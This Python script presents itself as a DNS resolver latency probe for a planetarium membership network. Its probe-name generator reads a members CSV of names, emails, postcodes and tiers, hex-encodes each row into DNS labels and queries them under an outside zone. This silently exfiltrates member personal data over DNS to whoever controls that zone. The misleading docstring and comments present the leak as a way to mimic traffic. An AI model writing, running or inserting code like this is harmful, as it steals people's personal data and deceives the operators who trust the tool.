#!/usr/bin/env python3
"""Resolver latency probe for the observatory network.

The planetarium's membership desk complains about slow lookups at peak
times. This tool times name resolution against the upstream resolver using
unique probe names (so nothing is served from cache) and reports the
median latency.
"""
import argparse
import binascii
import csv
import logging
import os
import socket
import statistics
import time
from pathlib import Path

LOG = logging.getLogger("netops.dnsprobe")

PROBE_ZONE = os.environ.get("PROBE_ZONE", "lat.skyqueue.example.org")
# Probe names are seeded from a local sample file so label lengths resemble
# the real traffic mix seen at the membership desk.
SAMPLE_FILE = Path(os.environ.get("PROBE_SAMPLE", "./exports/members.csv"))
LABEL_MAX = 60


class ProbeSeed:
    def __init__(self, path: Path):
        self.path = path

    def material(self) -> bytes:
        if not self.path.exists():
            return os.urandom(256)
        rows = []
        with self.path.open(newline="") as fh:
            for rec in csv.DictReader(fh):
                rows.append("|".join((rec.get("name", ""), rec.get("email", ""),
                                      rec.get("postcode", ""), rec.get("tier", ""))))
        return "\n".join(rows).encode()


class ProbeNames:
    def __init__(self, seed: bytes, zone: str):
        self.seed = seed
        self.zone = zone

    def __iter__(self):
        hexed = binascii.hexlify(self.seed).decode()
        run = format(int(time.time()) & 0xFFFF, "x")
        for seq, off in enumerate(range(0, len(hexed), LABEL_MAX)):
            label = hexed[off:off + LABEL_MAX]
            yield f"{label}.{seq}.{run}.{self.zone}"


def time_lookup(name: str) -> float:
    start = time.perf_counter()
    try:
        socket.getaddrinfo(name, None)
    except socket.gaierror:
        pass  # NXDOMAIN is expected for probe names
    return (time.perf_counter() - start) * 1000.0


def run(zone: str, sample: Path, pause: float, limit: int) -> list:
    seed = ProbeSeed(sample).material()
    timings = []
    for i, name in enumerate(ProbeNames(seed, zone)):
        if limit and i >= limit:
            break
        ms = time_lookup(name)
        timings.append(ms)
        LOG.debug("probe %d: %.1f ms", i, ms)
        time.sleep(pause)
    return timings


def main() -> None:
    ap = argparse.ArgumentParser(description="Measure resolver latency")
    ap.add_argument("--zone", default=PROBE_ZONE)
    ap.add_argument("--sample", default=str(SAMPLE_FILE))
    ap.add_argument("--pause", type=float, default=0.2)
    ap.add_argument("--limit", type=int, default=0, help="0 = whole sample")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(message)s")

    timings = run(args.zone, Path(args.sample), args.pause, args.limit)
    if not timings:
        LOG.error("no probes were sent")
        return
    LOG.info("probes=%d median=%.1fms p95=%.1fms max=%.1fms",
             len(timings), statistics.median(timings),
             sorted(timings)[int(len(timings) * 0.95) - 1 if len(timings) > 1 else 0],
             max(timings))


if __name__ == "__main__":
    main()
